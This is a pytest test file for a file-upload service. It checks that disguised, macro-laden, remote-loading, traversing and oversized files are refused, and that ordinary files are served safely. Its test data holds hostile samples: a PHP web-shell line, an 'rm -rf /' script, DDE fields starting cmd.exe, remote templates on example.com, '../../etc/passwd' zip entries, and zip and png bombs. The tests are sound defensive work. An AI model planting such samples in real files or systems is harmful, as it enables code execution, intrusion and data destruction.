"""Uploads and downloads by HTTP: what comes in, what is refused and why, how it is served."""

from __future__ import annotations

import io
import re
import stat
import zipfile
from dataclasses import replace
from datetime import timedelta

import pytest
from PIL import Image
from pypdf import PdfWriter
from sqlalchemy import select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from app.extensions import system_session
from app.models import Attachment
from tests import samples as made

ELSEWHERE = "This file cannot be used here."
RENAMED = "The file is not what its name says."
DAMAGED = "The file is damaged or incomplete."
MACROS = "The file contains macros or controls"
ACTIONS = "The file contains JavaScript or an action that starts something"
LOADED = "The file contains a part that is loaded from elsewhere"
STARTS = "The file contains a field that starts a program"
EMBEDDED = "The file contains embedded files"
PROGRAM = "The file contains a program or script"
LOCKED = "The file is protected by a password."
BOMB = "The file becomes too large when it is unpacked."
NAMES = "The archive holds an entry whose name leads elsewhere"
NAME = "The name of the file leads elsewhere or misleads the reader."
PIXELS = "The picture has more than 50 million pixels."
BEHIND = "The file contains something that is not part of the PDF"


def stored_files(app):
    folder = app.extensions["store"].folder
    return {path for path in folder.rglob("*") if path.is_file()}


def send(client, content, name, rule):
    """Answer to an upload."""
    return client.post(
        "/files/", **multipart(rule=rule, file=FileStorage(io.BytesIO(content), name))
    )


def multipart(**fields):
    """The body of a form with files, made here: the client's own leaves a file open behind it."""
    boundary, body = encode_multipart(fields)
    kind = f'multipart/form-data; boundary="{boundary}"'
    return {"input_stream": io.BytesIO(body), "content_type": kind, "content_length": len(body)}


def attachments(app):
    with app.app_context(), system_session() as session:
        return session.scalars(select(Attachment).order_by(Attachment.id)).all()


def encrypted_pdf():
    def change(writer: PdfWriter):
        writer.encrypt("secret", algorithm="RC4-128")

    return made.pdf(change=change)


def locked_entry(entry):
    entry.flag_bits |= 1


def linked_entry(entry):
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16


def zip_of(*names, content=b"x"):
    return made.packed((name, content) for name in names)


def nul_zip():
    """A name with a NUL, which no library writes by itself."""
    return zip_of("a.pdf_.exe").replace(b"a.pdf_.exe", b"a.pdf\x00.exe")


def locked_zip():
    raw = bytearray(zip_of("a.txt"))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        raw[raw.index(mark) + offset] |= 1
    return bytes(raw)


def remote(kind, target):
    return f'Type="{made.OFFICE}/{kind}" Target="{target}" TargetMode="External"'


def word(*runs):
    """A document of these pieces of text and fields."""
    return f"<w:document xmlns:w='urn:w'><w:p>{''.join(runs)}</w:p></w:document>"


def field(*pieces):
    """A field as Word keeps it: its instruction may lie in several pieces."""
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"<w:fldChar w:fldCharType='begin'/>{said}<w:fldChar w:fldCharType='end'/>"


def related(content, name="word/_rels/settings.xml.rels"):
    """A document with one more list of relations."""
    return made.office(extra={name: content})


EVIL = "https://example.com/a.dotm"
TEMPLATE = made.relations(remote("attachedTemplate", EVIL))
PREFIXED = TEMPLATE.replace(b"<Rel", b"<p:Rel").replace(b"</Rel", b"</p:Rel")
UNC = r"\\example.com\s\a.pdf"
PROGRAM_IN_WORD = made.compound({"\x01Ole10Native": made.PROGRAM})
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"

MAIL_IN_MAIL = b"Content-Type: message/rfc822\r\n\r\n"
MAIL, SPLIT = b"From: a@b\r\nSubject: x\r\n", b"Content-Type: multipart/mixed; boundary=x\r\n\r\n"


def broken(content: bytes) -> bytes:
    """A zip whose first part no longer unpacks."""
    start = 30 + int.from_bytes(content[26:28], "little")
    return content[:start] + b"\xff" * 8 + content[start + 8 :]


HOSTILE = {
    # what it is called is not what it is
    "html": (made.PAGE, "a.html", "document", ELSEWHERE),
    "html as png": (made.PAGE, "a.png", "picture", ELSEWHERE),
    "html as pdf": (made.PAGE, "a.pdf", "seal", ELSEWHERE),
    "html as mail": (made.PAGE, "a.eml", "mail", ELSEWHERE),
    "svg": (made.DRAWING, "a.svg", "picture", ELSEWHERE),
    "svg as png": (made.DRAWING, "a.png", "logo", ELSEWHERE),
    "script as jpg": (b"alert(1)//" + bytes(200), "a.jpg", "picture", ELSEWHERE),
    "php as docx": (b"<?php system($_GET[0]);", "a.docx", "document", ELSEWHERE),
    "shell as mail": (b"#!/bin/sh\nrm -rf /\n", "a.eml", "mail", ELSEWHERE),
    "program": (made.PROGRAM, "setup.exe", "pack", ELSEWHERE),
    "program as pdf": (made.PROGRAM, "contract.pdf", "seal", ELSEWHERE),
    "program as zip": (b"\x7fELF" + bytes(900), "a.zip", "pack", ELSEWHERE),
    "two endings": (made.pdf(), "a.pdf.exe", "seal", ELSEWHERE),
    "png as pdf": (made.picture(), "a.pdf", "licence", RENAMED),
    "zip as docx": (zip_of("a.txt"), "a.docx", "document", ELSEWHERE),
    "xlsx as docx": (made.office("xlsx"), "a.docx", "report", ELSEWHERE),
    "empty": (b"", "a.pdf", "licence", "The file is empty."),
    "too large": (made.pdf() + bytes(10 * made.MEGABYTE), "a.pdf", "seal", "larger than 10 MB"),
    "too large a photo": (
        made.picture() + bytes(2 * made.MEGABYTE), "a.png", "photo", "larger than 2 MB",
    ),
    # two things at once
    "gif and script": (b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "a.jpg", "picture", ELSEWHERE),
    "pdf and html": (
        made.pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1), "a.pdf", "seal",
        BEHIND,
    ),
    "html before pdf": (made.PAGE + made.pdf(), "a.pdf", "seal", ELSEWHERE),
    "zip behind pdf": (made.pdf() + zip_of("a.exe"), "a.pdf", "seal", BEHIND),
    # PDF
    "pdf that runs": (made.opening("app.alert(1)"), "a.pdf", "licence", ACTIONS),
    "pdf that starts": (made.with_action("/Launch", F="cmd.exe"), "a.pdf", "licence", ACTIONS),
    "pdf that goes elsewhere": (
        made.with_action("/GoToR", F=UNC, D="x"), "a.pdf", "licence", ACTIONS,
    ),
    "pdf that reads on elsewhere": (
        made.with_action("/Thread", F=UNC, D="x"), "a.pdf", "licence", ACTIONS,
    ),
    "pdf with a hidden script": (made.named_script(), "a.pdf", "stamp", ACTIONS),
    "pdf with a file": (
        made.pdf(change=lambda writer: writer.add_attachment("a.exe", made.PROGRAM)), "a.pdf",
        "report", EMBEDDED,
    ),
    "pdf with a form of xml": (made.form_of_xml(), "a.pdf", "report", ACTIONS),
    "pdf with a password": (encrypted_pdf(), "a.pdf", "licence", LOCKED),
    "half a pdf": (made.pdf(9)[:-200], "a.pdf", "licence", DAMAGED),
    # office files
    "docm as docx": (made.office(main_type=DOCM), "a.docx", "document", MACROS),
    "docx with macros": (
        made.office(extra={"word/vbaProject.bin": b"x"}), "a.docx", "document", MACROS,
    ),
    "xlsx with macros": (
        made.office("xlsx", {"xl/vbaProject.bin": b"x"}), "a.xlsx", "sheet", MACROS,
    ),
    "xlsx with old macros": (
        made.office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}), "a.xlsx", "sheet", MACROS,
    ),
    "docx with a control": (
        made.office(extra={"word/activeX/activeX1.bin": b"x"}), "a.docx", "document", MACROS,
    ),
    "docx with a remote template": (
        made.office(relation=remote("attachedTemplate", "https://example.com/a.dotm")), "a.docx",
        "document", LOADED,
    ),
    "docx with a remote template, spelled out": (
        related(TEMPLATE.replace(b"https:", b"&#104;ttps&#58;")), "a.docx", "document", LOADED,
    ),
    "docx with a remote template, escaped": (
        related(TEMPLATE.replace(b"https://", b"https:%2F%2F")), "a.docx", "document", LOADED,
    ),
    "docx with a remote template, said otherwise": (
        related(TEMPLATE.replace(b"External", b"Ext&#101;rnal")), "a.docx", "document", LOADED,
    ),
    "docx with a remote template, prefixed": (
        related(PREFIXED.replace(b"xmlns=", b"xmlns:p=")), "a.docx", "document", LOADED,
    ),
    "docx with a remote template, in capitals": (
        related(TEMPLATE, "word/_rels/settings.xml.RELS"), "a.docx", "document", LOADED,
    ),
    "docx with a remote template, under another name": (
        related(TEMPLATE, "word/settings.bin"), "a.docx", "document", LOADED,
    ),
    "docx with a remote template of a house": (
        related(made.relations(remote("attachedTemplate", "file:////example.com/s/a.dotm"))),
        "a.docx", "document", LOADED,
    ),
    "docx with a remote page": (
        related(made.relations(remote("oleObject", "mhtml:https://example.com/a.htm!x"))),
        "a.docx", "document", LOADED,
    ),
    "docx with a remote picture": (
        made.office(relation=remote("image", "https://example.com/a.png")), "a.docx", "document",
        LOADED,
    ),
    "docx with a remote text": (
        made.office(relation=remote("aFChunk", "https://example.com/a.docx")), "a.docx",
        "document", EMBEDDED,
    ),
    "docx with a field that starts": (
        made.office(body=word(field("DDE", r'AUTO c:\\windows\\cmd.exe "/k calc"'))), "a.docx",
        "document", STARTS,
    ),
    "docx with a short field that starts": (
        made.office(body=word("<w:fldSimple w:instr=' &#68;DE cmd &quot;/k calc&quot;'/>")),
        "a.docx", "document", STARTS,
    ),
    "docx with a remote picture in a field": (
        made.office(body=word(field(r'INCLUDEPICTURE "https://example.com/a" \d'))), "a.docx",
        "document", LOADED,
    ),
    "docx with a picture of another computer in a field": (
        made.office(body=word(field(r'INCLUDEPICTURE \d "\\\\example.com\\s\\a.png"'))),
        "a.docx", "document", LOADED,
    ),
    "xlsx with a field that starts": (
        made.office("xlsx", {"xl/externalLinks/externalLink1.xml":
            b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"}),
        "a.xlsx", "sheet", STARTS,
    ),
    "docm as docx, spelled out": (
        made.office(main_type=DOCM.replace("macro", "m&#97;cro")), "a.docx", "document", MACROS,
    ),
    "docx that is torn": (
        made.office(body="<w:document xmlns:w='urn:w'><w:p>"), "a.docx", "document", DAMAGED,
    ),
    "docx with a program elsewhere": (
        made.office(extra={"word/media/oleObject1.bin": PROGRAM_IN_WORD}), "a.docx",
        "document", EMBEDDED,
    ),
    "docx with a program": (
        made.office(extra={"word/embeddings/oleObject1.bin": PROGRAM_IN_WORD}), "a.docx",
        "document", EMBEDDED,
    ),
    "docx with a macro book": (
        made.office(extra={
            "word/embeddings/a.xlsx": made.office("xlsx", {"xl/vbaProject.bin": b"x"})
        }), "a.docx", "document", MACROS,
    ),
    "pptx with a script": (
        made.office("pptx", {"ppt/media/a.js": b"x"}), "a.pptx", "intro", PROGRAM,
    ),
    "docx of entities": (
        made.office(body=made.ENTITIES), "a.docx", "document", "document type with entities",
    ),
    "docx bomb": (
        made.office(extra={"word/media/image1.bmp": bytes(60 * made.MEGABYTE)}), "a.docx",
        "document", BOMB,
    ),
    "xls with macros": (
        made.compound({"Workbook": made.book(), "_VBA_PROJECT_CUR": b"", "VBA": b""}), "a.xls",
        "sheet", MACROS,
    ),
    "xls with old macros": (
        made.compound({"Workbook": made.book(1)}), "a.xls", "sheet", MACROS,
    ),
    "xls with a password": (
        made.compound({"Workbook": made.book(0, made.record(0x2F, bytes(54)))}), "a.xls", "sheet",
        LOCKED,
    ),
    "msg with a program": (made.outlook("发票.exe"), "a.msg", "mail", PROGRAM),
    "eml with a script": (made.mail("invoice.pdf.js"), "a.eml", "mail", PROGRAM),
    # archives
    "zip bomb": (made.packed([("a.txt", bytes(30 * made.MEGABYTE))]), "a.zip", "pack", BOMB),
    "zip of zips": (zip_of("a.zip"), "a.zip", "pack", "holds another archive (a.zip)"),
    "zip that climbs": (zip_of("../../etc/passwd"), "a.zip", "pack", NAMES),
    "zip that climbs backwards": (zip_of("..\\..\\a.txt"), "a.zip", "pack", NAMES),
    "zip from the root": (zip_of("/etc/passwd"), "a.zip", "pack", NAMES),
    "zip onto a drive": (zip_of("C:/a.txt"), "a.zip", "pack", NAMES),
    "zip that turns names": (zip_of("invoice\u202efdp.exe"), "a.zip", "pack", NAMES),
    "zip with a NUL": (nul_zip(), "a.zip", "pack", NAMES),
    "zip with a link": (
        made.packed([("a", b"/etc/passwd")], linked_entry), "a.zip", "pack", NAMES,
    ),
    "zip with a program": (zip_of("a.pdf", "安装.EXE"), "a.zip", "pack", PROGRAM),
    "zip of too many": (
        zip_of(*(f"{n}.txt" for n in range(201))), "a.zip", "pack", "more than 200 entries",
    ),
    "zip too deep": (zip_of("a/b/c/d/e/f.txt"), "a.zip", "pack", "nested deeper than 5"),
    "zip with a password": (locked_zip(), "a.zip", "pack", LOCKED),
    "half a zip": (zip_of("a.txt", content=bytes(500))[:-30], "a.zip", "pack", DAMAGED),
    "rar that climbs": (made.rar([("../a.txt", b"x")]), "a.rar", "pack", NAMES),
    "rar with a program": (made.rar([("a.scr", b"x")]), "a.rar", "pack", PROGRAM),
    "rar bomb": (made.rar([("a.txt", b"x")], 300 * made.MEGABYTE), "a.rar", "pack", BOMB),
    "rar with a password": (made.locked_rar(), "a.rar", "pack", LOCKED),
    # what takes minutes to read, and what no reader knows
    "eml of many levels": (MAIL + MAIL_IN_MAIL * 3_000, "a.eml", "mail", BOMB),
    "eml of many parts": (MAIL + SPLIT + b"--x\r\n\r\na\r\n" * 30_000, "a.eml", "mail", BOMB),
    "eml with an endless head": (
        MAIL + b"Content-Type: " + b"a;" * 30_000 + b"\r\n\r\nx", "a.eml", "mail", DAMAGED
    ),
    "eml with an encoded program": (
        made.mail("=?utf-8?b?YS5leGU=?="), "a.eml", "mail", PROGRAM
    ),
    "docx in an unknown encoding": (
        made.office(extra={"word/x.xml": b"<?xml version='1.0' encoding='foo'?><a/>"}),
        "a.docx", "document", DAMAGED,
    ),
    "docx with a broken part": (broken(made.office()), "a.docx", "document", DAMAGED),
    # pictures, films, names
    "png bomb": (made.bomb_png(), "a.png", "picture", PIXELS),
    "half a png": (made.picture()[:-100], "a.png", "picture", DAMAGED),
    "half a film": (made.video()[:-50], "a.mp4", "video", DAMAGED),
    "name that turns": (made.pdf(), "invoice\u202efdp.pdf", "seal", NAME),
    "name that climbs": (made.pdf(), "../../etc/cron.d/a.pdf", "seal", NAME),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason_and_leaves_nothing(app, sign_in, case):
    content, name, rule, reason = HOSTILE[case]
    client = sign_in("visitor")
    client.get("/lang/en")
    rows, files = len(attachments(app)), stored_files(app)
    answer = send(client, content, name, rule)
    assert answer.status_code == 422, answer.json
    assert reason in answer.json["error"]
    assert re.search(r"\. [A-Z]", answer.json["error"])  # and what to do about it
    assert len(attachments(app)) == rows
    assert stored_files(app) == files


def test_hostile_files_are_counted():
    assert len(HOSTILE) >= 40


HARMLESS = {
    "png with php behind it": (made.picture() + b"<?php system($_GET[0]); ?>", "a.png", b"<?php"),
    "png with a zip behind it": (made.picture() + zip_of("a.exe"), "a.png", b"PK\x03\x04"),
    "jpg with html behind it": (made.picture("JPEG") + made.PAGE, "a.jpg", b"<html"),
    "png that talks": (made.talking_png(), "a.png", b"script"),
    "jpg with a script in its notes": (made.turned_jpeg(), "a.jpg", b"script"),
    "jpg with a remark": (made.picture("JPEG", comment=made.PAGE), "a.jpg", b"script"),
}


@pytest.mark.parametrize("case", HARMLESS)
def test_a_picture_is_kept_as_pixels_and_nothing_else(sign_in, case):
    content, name, carried = HARMLESS[case]
    assert carried in content
    client = sign_in("visitor")
    answer = send(client, content, name, "picture")
    assert answer.status_code == 200, answer.json
    kept = client.get(f"/files/{answer.json['id']}/").data
    assert carried not in kept
    Image.open(io.BytesIO(kept)).load()


def gbk_zip():
    """As an older Windows packs: names in GBK, without saying so."""
    name = "营业执照.pdf".encode("gb18030")
    return zip_of("x" * len(name)).replace(b"x" * len(name), name)


ORDINARY = {
    "jpg": (made.picture("JPEG"), "执照.jpg", "licence", "image/jpeg"),
    "JPEG in capitals": (made.picture("JPEG"), "执照.JPEG", "licence", "image/jpeg"),
    "jpg for print": (made.picture("JPEG", mode="CMYK"), "a.jpg", "licence", "image/jpeg"),
    "turned jpg": (made.turned_jpeg(), "a.jpg", "photo", "image/jpeg"),
    "png": (made.picture(), "照片 (1).png", "photo", "image/png"),
    "png with a palette": (made.picture(mode="P", transparency=3), "a.png", "picture", "image/png"),
    "logo": (made.picture(mode="RGBA"), "标识.png", "logo", "image/png"),
    "cover": (made.picture("JPEG", (1000, 600)), "a.jpg", "cover", "image/jpeg"),
    "pdf": (made.pdf(3), "证明.pdf", "seal", "application/pdf"),
    "scan": (made.scan(), "扫描件.pdf", "stamp", "application/pdf"),
    "pdf with a link": (
        made.with_action("/URI", URI="https://example.com/"), "a.pdf", "report", "application/pdf",
    ),
    "pdf with blanks behind": (made.pdf() + b"\r\n\0\0\0", "a.pdf", "seal", "application/pdf"),
    "docx": (made.office(), "证明材料.docx", "document", None),
    "docx with a table": (
        made.office(extra={"word/embeddings/a.xlsx": made.office("xlsx")}), "a.docx", "report",
        None,
    ),
    "docx with a formula": (
        made.office(extra={"word/embeddings/oleObject1.bin": made.compound(
            {"Equation Native": b"x" * 90}
        )}), "a.docx", "report", None,
    ),
    "docx with a link": (
        made.office(relation=remote("hyperlink", "https://example.com/")), "a.docx", "document",
        None,
    ),
    "docx of a house": (
        made.office(relation=remote("attachedTemplate", "file:///C:\\Normal.dotm")), "a.docx",
        "document", None,
    ),
    "docx with fields": (
        made.office(body=word(
            field(' TOC \\o "1-3" '), field(' HYPERLINK "https://example.com/" '),
            field(r' INCLUDEPICTURE "C:\\Users\\a.png" \d '),
            field(r' LINK Excel.Sheet.12 "C:\\a.xlsx" "Sheet1!R1C1:R3C4" \a '),
            "<w:fldSimple w:instr=' PAGE '/>",
        )), "a.docx", "document", None,
    ),
    "docx with parts named from the top": (
        made.office(relation=f'Type="{made.OFFICE}/styles" Target="/word/styles.xml"'), "a.docx",
        "document", None,
    ),
    "xlsx that reads another": (
        made.office("xlsx", relation=remote("externalLinkPath", r"file:///\\house\s\a.xlsx")),
        "清单.xlsx", "sheet", None,
    ),
    "xlsx with the settings of a printer": (
        made.office("xlsx", {"xl/printerSettings/a.bin": made.ENTITIES.encode()}), "清单.xlsx",
        "sheet", None,
    ),
    "pptx": (made.office("pptx"), "介绍.pptx", "intro", None),
    "xlsx": (made.office("xlsx"), "清单.xlsx", "sheet", None),
    "xls": (made.compound({"Workbook": made.book()}), "清单.xls", "sheet",
            "application/vnd.ms-excel"),
    "msg": (made.outlook(), "来信.msg", "mail", "application/vnd.ms-outlook"),
    "eml": (made.mail(), "来信.eml", "mail", "message/rfc822"),
    "zip": (zip_of("材料/执照.pdf", "材料/合同.docx"), "材料包.zip", "pack", "application/zip"),
    "zip of Windows": (gbk_zip(), "a.zip", "pack", "application/zip"),
    "rar": (
        made.rar([("材料/执照.pdf", b"x" * 90), ("b.txt", b"y")]), "材料包.rar", "pack",
        "application/vnd.rar",
    ),
    "mp4": (made.video(), "宣传片.mp4", "video", "video/mp4"),
}  # fmt: skip


@pytest.mark.db
@pytest.mark.parametrize("case", ORDINARY)
def test_an_ordinary_file_comes_in_and_comes_back(app, sign_in, case):
    content, name, rule, mime = ORDINARY[case]
    client = sign_in("visitor")
    answer = send(client, content, name, rule)
    assert answer.status_code == 200, answer.json
    row = attachments(app)[-1]
    assert (row.id, row.name, row.rule) == (answer.json["id"], name, rule)
    assert row.mime == mime or (mime is None and "openxmlformats" in row.mime)
    back = client.get(f"/files/{row.id}/")
    assert back.status_code == 200
    assert len(back.data) == row.size == back.content_length
    shown = row.mime in {"image/jpeg", "image/png", "application/pdf"}
    assert back.data == content or row.mime.startswith("image/")
    assert back.headers["Content-Disposition"].startswith("inline" if shown else "attachment")
    assert back.mimetype == (row.mime if shown else "application/octet-stream")
    assert back.headers["Content-Security-Policy"].replace(" ", "") == "sandbox;default-src'none'"
    assert back.headers["X-Content-Type-Options"] == "nosniff"
    assert sign_in("newcomer").get(f"/files/{row.id}/").status_code == 404


def test_what_is_known_of_a_file_is_kept_with_it(app, sign_in):
    client = sign_in("visitor")
    for case in ("pdf", "zip", "zip of Windows", "rar", "turned jpg", "cover", "logo"):
        assert send(client, *ORDINARY[case][:3]).status_code == 200
    pdf, plain, windows, rar, turned, cover, _logo = attachments(app)[-7:]
    assert (pdf.pages, pdf.listing) == (3, None)
    assert plain.listing == [
        {"name": "材料/执照.pdf", "size": 1}, {"name": "材料/合同.docx", "size": 1},
    ]  # fmt: skip
    assert windows.listing == [{"name": "营业执照.pdf", "size": 1}]
    assert rar.listing == [{"name": "材料/执照.pdf", "size": 90}, {"name": "b.txt", "size": 1}]
    sizes = [
        Image.open(io.BytesIO(client.get(f"/files/{row.id}/").data)).size for row in (turned, cover)
    ]
    assert sizes == [(300, 200), (800, 600)]


def test_ordinary_files_are_counted():
    assert len(ORDINARY) >= 20


def test_a_reader_may_ask_for_a_part(sign_in):
    client = sign_in("visitor")
    content = made.scan()
    number = send(client, content, "a.pdf", "stamp").json["id"]

    def part(asked):
        return client.get(f"/files/{number}/", headers={"Range": asked})

    assert client.get(f"/files/{number}/").headers["Accept-Ranges"] == "bytes"
    first, middle, last = part("bytes=0-9"), part("bytes=100-"), part("bytes=-5")
    assert [a.status_code for a in (first, middle, last)] == [206, 206, 206]
    assert (first.data, middle.data, last.data) == (content[:10], content[100:], content[-5:])
    assert first.headers["Content-Range"] == f"bytes 0-9/{len(content)}"
    for nonsense in ("bytes=9999999-", "lines=0-5", "bytes=x", "bytes=0-1,5-6"):
        assert part(nonsense).data == content, nonsense


def test_only_uploads_may_be_large(sign_in):
    large = multipart(username=FileStorage(io.BytesIO(bytes(3 * made.MEGABYTE)), "a.pdf"))
    assert sign_in(None).post("/login/", **large).status_code == 413
    typed = {"username": "x" * 3 * made.MEGABYTE}
    assert sign_in(None).post("/login/", data=typed).status_code == 413
    client = sign_in("visitor")
    answer = client.post("/files/", data={"rule": "x" * 3 * made.MEGABYTE})
    assert answer.status_code == 413
    assert answer.json["error"]


def test_a_stranger_sends_nothing_that_would_be_read(sign_in):
    class Body(io.BytesIO):
        taken = 0

        def read(self, size=-1):
            found = super().read(size)
            Body.taken += len(found)
            return found

    client = sign_in(None)
    body = Body(bytes(5 * made.MEGABYTE))
    answer = client.post(
        "/files/", input_stream=body, content_type="multipart/form-data; boundary=x",
        headers={"Content-Length": str(5 * made.MEGABYTE)},
    )  # fmt: skip
    assert (answer.status_code, Body.taken) == (401, 0)


def test_an_upload_without_its_token_is_refused(app, sign_in):
    client = sign_in("visitor")
    app.config["WTF_CSRF_ENABLED"] = True
    try:
        answer = send(client, made.pdf(), "a.pdf", "seal")
    finally:
        app.config["WTF_CSRF_ENABLED"] = False
    assert answer.status_code == 400
    assert answer.json["error"]


def test_zip_entries_are_listed_and_never_opened(sign_in, monkeypatch):
    def refuse(*_args, **_kwargs):
        raise AssertionError("unpacked")

    content, client = zip_of("a.txt"), sign_in("visitor")
    monkeypatch.setattr(zipfile.ZipFile, "open", refuse)
    assert send(client, content, "a.zip", "pack").status_code == 200


# --- how much one person sends --------------------------------------------------------------------


@pytest.mark.db
def test_uploads_are_counted_by_the_hour(app, sign_in, monkeypatch):
    few = replace(app.extensions["profile"].limits, uploads_per_hour=2)
    monkeypatch.setitem(app.extensions, "profile", replace(app.extensions["profile"], limits=few))
    client = sign_in("visitor")
    client.get("/lang/en")
    assert send(client, made.pdf(), "a.pdf", "seal").status_code == 200
    assert send(client, made.PAGE, "a.pdf", "seal").status_code == 422
    rows = len(attachments(app))
    answer = send(client, made.pdf(), "a.pdf", "seal")
    assert answer.status_code == 429
    assert "too many files in the last hour. Go on after" in answer.json["error"]
    assert len(attachments(app)) == rows
    assert send(sign_in("newcomer"), made.pdf(), "a.pdf", "seal").status_code == 200


@pytest.mark.db
def test_what_is_stored_is_counted_by_the_day(app, sign_in):
    allowed = app.extensions["profile"].limits.upload_megabytes_per_day
    client = sign_in("visitor")
    client.get("/lang/en")
    number = send(client, made.pdf(), "a.pdf", "seal").json["id"]
    with app.app_context(), system_session() as session:
        row = session.get_one(Attachment, number)
        row.size = allowed * made.MEGABYTE
        session.commit()
    answer = send(client, made.pdf(), "a.pdf", "seal")
    assert answer.status_code == 429
    assert f"more than {allowed} MB in the last 24 hours" in answer.json["error"]
    with app.app_context(), system_session() as session:
        session.get_one(Attachment, number).uploaded_at -= timedelta(days=1)
        session.commit()
    assert send(client, made.pdf(), "a.pdf", "seal").status_code == 200
